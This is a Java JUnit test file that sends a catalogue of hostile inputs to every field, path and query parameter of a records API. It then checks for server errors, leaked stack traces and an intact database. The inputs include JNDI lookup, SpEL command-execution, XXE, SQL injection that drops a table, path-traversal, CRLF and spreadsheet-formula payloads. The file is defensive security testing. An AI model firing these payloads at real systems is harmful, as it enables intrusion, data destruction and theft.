package io.perennial.platform.records.web;

import static org.assertj.core.api.Assertions.assertThat;

import io.perennial.platform.records.web.ApiCaller.Reply;
import io.perennial.world.People;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/** Everything hostile that we know of, at every place of the API where a client can put something. */
@ApiTest
class HostileRequestsTests {

    private static final JsonMapper JSON = JsonMapper.builder().build();

    /** Our own collection; the larger one beside the checkout is used when it is there. */
    private static final List<String> OWN = List.of(
            "${jndi:ldap://127.0.0.1:1389/a}",
            "T(java.lang.Runtime).getRuntime().exec('id')",
            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><a>&x;</a>",
            "' OR 1=1; drop table identity.team_member; --",
            "\"}; select pg_sleep(10); --",
            ":name :limit ?::text $1 %s %n {0}",
            "a\u0000b",
            "a\ud800b",
            "\u202Egnp.exe",
            "../../etc/passwd",
            "=HYPERLINK(\"http://x.test/?\"&A1,\"click\")",
            "null",
            "9223372036854775808",
            "1e999999999",
            "-0",
            "{\"$ne\":null}",
            "[[[[[[[[[[]]]]]]]]]]",
            "x".repeat(70_000),
            "🏳️‍🌈".repeat(300),
            "\r\nSet-Cookie: a=b",
            "%00",
            "*,api_key_hash");

    @Autowired
    People people;

    @Autowired
    JdbcClient database;

    ApiCaller api;

    @BeforeEach
    void holdsAKey() {
        api = freshCaller();
    }

    private ApiCaller freshCaller() {
        return ApiCaller.of(people, "read", "write");
    }

    @Test
    void hostileTextsOfOursNeverBreakAnything() {
        assertThat(sendEverywhere(OWN)).isEmpty();
    }

    @Test
    void hostileTextsOfTheSharedCollectionNeverBreakAnything() {
        assertThat(sendEverywhere(sharedTexts())).isEmpty();
    }

    /** @return findings: answers of 500, or answers that show our inside */
    private List<String> sendEverywhere(List<String> texts) {
        List<String> findings = new ArrayList<>();
        int calls = 0;
        for (String text : texts) {
            if (calls++ % 50 == 0) {
                api = freshCaller();
            }
            ObjectNode record = JsonNodeFactory.instance.objectNode();
            for (String column : List.of(
                    "name",
                    "parent",
                    "owner",
                    "amount",
                    "currency",
                    "seats",
                    "starts_on",
                    "seen_at",
                    "active",
                    "roles",
                    "zone",
                    "stage",
                    "mail",
                    "code",
                    "ratio")) {
                record.put(column, text);
            }
            record.putObject("attributes").put(text, text);
            ObjectNode plain = JsonNodeFactory.instance.objectNode().put("name", text);
            ObjectNode bulk = JsonNodeFactory.instance.objectNode();
            bulk.putArray("items")
                    .add(record)
                    .add(plain.deepCopy().put("external_id", text))
                    .add(text);
            String inUrl =
                    URLEncoder.encode(text.length() > 2_000 ? text.substring(0, 2_000) : text, StandardCharsets.UTF_8);
            judge(findings, text, "record", api.put("/api/v1/samples/h-1", record.toString()));
            judge(findings, text, "name", api.put("/api/v1/samples/h-2", plain.toString()));
            judge(findings, text, "bulk", api.post("/api/v1/samples/bulk", bulk.toString()));
            judge(findings, text, "body", api.put("/api/v1/samples/h-3", text));
            judge(findings, text, "path", api.get("/api/v1/samples/" + inUrl));
            judge(findings, text, "type", api.get("/api/v1/" + inUrl));
            for (String parameter : List.of(
                    "cursor",
                    "sort",
                    "fields",
                    "limit",
                    "updated_since",
                    "name",
                    "parent",
                    "seats",
                    "starts_on",
                    "roles",
                    inUrl)) {
                judge(findings, text, parameter, api.get("/api/v1/samples?" + parameter + "=" + inUrl));
            }
        }
        assertThat(database.sql("select count(*) from identity.team_member")
                        .query(Long.class)
                        .single())
                .isZero();
        assertThat(api.put("/api/v1/samples/good", "{\"name\":\"Good\"}").status())
                .isEqualTo(201);
        return findings;
    }

    private static void judge(List<String> findings, String text, String place, Reply reply) {
        String shown = text.length() > 60 ? text.substring(0, 60) : text;
        if (reply.status() >= 500 || reply.status() == 429) {
            findings.add(reply.status() + " for " + shown + " in " + place);
        }
        if (reply.status() >= 400
                && (reply.body().contains("Exception") && !text.contains("Exception")
                        || reply.body().contains("jsonb_populate")
                        || reply.body().contains("at io.perennial"))) {
            findings.add("our inside for " + shown + " in " + place);
        }
    }

    private static List<String> sharedTexts() {
        List<String> texts = new ArrayList<>();
        for (JsonNode hostile : shared()) {
            switch (hostile.path("kind").asString()) {
                case "payload" -> texts.add(hostile.path("input").asString());
                case "base64" ->
                    texts.add(new String(
                            Base64.getDecoder().decode(hostile.path("input").asString()), StandardCharsets.ISO_8859_1));
                case "repeat" -> {
                    JsonNode input = hostile.path("input");
                    String unit = input.path("unit").asString();
                    int count = Math.min(input.path("count").asInt(), 100_000 / Math.max(1, unit.length()));
                    texts.add(input.path("prefix").asString()
                            + unit.repeat(count)
                            + input.path("suffix").asString());
                }
                default -> {}
            }
        }
        return texts;
    }

    private static JsonNode shared() {
        for (Path at = Path.of("").toAbsolutePath(); at != null; at = at.getParent()) {
            Path file = at.resolve("shared/hostile/hostile.json");
            if (Files.isRegularFile(file)) {
                try {
                    return JSON.readTree(Files.readString(file));
                } catch (IOException e) {
                    throw new UncheckedIOException(e);
                }
            }
        }
        return Assumptions.abort("No shared/hostile/hostile.json above this folder");
    }
}
